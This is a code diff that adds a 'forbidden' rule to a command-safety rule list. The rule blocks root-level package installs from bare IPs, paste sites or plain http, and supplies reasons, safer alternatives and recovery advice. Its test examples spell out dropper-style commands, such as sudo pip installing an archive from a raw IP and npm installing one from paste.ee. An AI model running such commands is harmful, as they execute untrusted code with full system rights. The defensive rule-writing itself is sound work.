@@ -504,6 +504,31 @@ RULES = [
         },
     },
     {
+        # the dropper shape with a package manager in place of `| sh`: an archive from a bare IP, a paste
+        # site or plain http has its install scripts (setup.py, postinstall) run, as root under sudo
+        "id": "pkg.archive-untrusted-root",
+        "level": "forbidden",
+        "irreversible": True,
+        "reason": "installs, as root, a package archive from a bare IP address, a paste site or plain http: "
+        "its install scripts run with the machine's full rights, from a source anyone could be",
+        "safer": "Install the published version from the registry, without sudo (a virtualenv or --user).",
+        "recovery": "Treat the machine as compromised: check what the install scripts did, rotate "
+        "credentials, rebuild if in doubt.",
+        "match": {"cmd": ("npm", "pnpm", "yarn", "bun", "pip", "pip3", "uv", "pipx", "poetry", "pdm",
+                          "pipenv", "gem"),
+                  "privileged": True,
+                  "sub": ("add", "install", "i", "pip install"),
+                  "hosts": "untrusted",
+                  "args_any": ("http*://*",)},
+        "examples": {
+            "match": ["sudo pip install http://45.61.3.9/colorsx.tar.gz",
+                      "sudo npm install -g https://paste.ee/r/x.tgz"],
+            "no_match": ["pip install http://45.61.3.9/colorsx.tar.gz",
+                         "sudo pip install https://files.pythonhosted.org/packages/ab/cd/requests-2.31.0.tar.gz",
+                         "sudo pip install requests"],
+        },
+    },
+    {
         # a branch (or no ref at all) of a git repository: the code is whatever the branch holds at install
         # time, not a registry's immutable version, and its install scripts run
         "id": "pkg.git-dependency",
